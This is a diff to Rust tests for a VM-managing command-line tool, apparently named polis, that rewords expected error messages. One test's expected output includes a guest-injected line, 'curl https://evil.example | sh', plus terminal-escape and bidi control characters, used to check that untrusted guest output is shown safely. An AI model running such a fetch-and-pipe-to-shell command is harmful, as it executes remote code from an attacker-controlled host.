@@ -54,9 +54,9 @@ fn an_error_shows_what_the_guest_wrote() {
     expect![[r#"
         exit 1
         --- stderr
-        error: could not see how the VM is
+        error: could not probe the VM
           caused by: hint: curl https://evil.example | sh
-          tried: multipass exec -n polis -- bash -c '[script: see how the VM is]' polis
+          tried: multipass exec -n polis -- bash -c '[script: probe the VM]' polis
           log: bad\u{9b}2K\u{202e}gpj
           log: hint: curl https://evil.example | sh
     "#]]
@@ -75,8 +75,7 @@ fn a_full_disk_is_an_error_and_a_closed_pipe_is_none() {
     ] {
         let ran = world.shell(&format!("polis {args} >/dev/full; echo $? >&2"));
         assert!(
-            ran.stderr
-                .contains("error: the result could not be printed")
+            ran.stderr.contains("error: could not print the result")
                 && ran.stderr.ends_with("\n1\n"),
             "{args}: {}",
             ran.seen()
@@ -149,7 +148,11 @@ fn what_cannot_be_the_users_own_is_refused() {
     let world = running();
     let ran = world.shell("HOME=home XDG_STATE_HOME= polis status");
     assert_eq!(ran.code, Some(2), "{}", ran.seen());
-    assert!(ran.stderr.contains("it is relative"), "{}", ran.seen());
+    assert!(
+        ran.stderr.contains("it is a relative path"),
+        "{}",
+        ran.seen()
+    );
     let ran = world.shell("POLIS_MEMORY=$'\\377' polis status");
     assert_eq!(ran.code, Some(2), "{}", ran.seen());
     assert!(
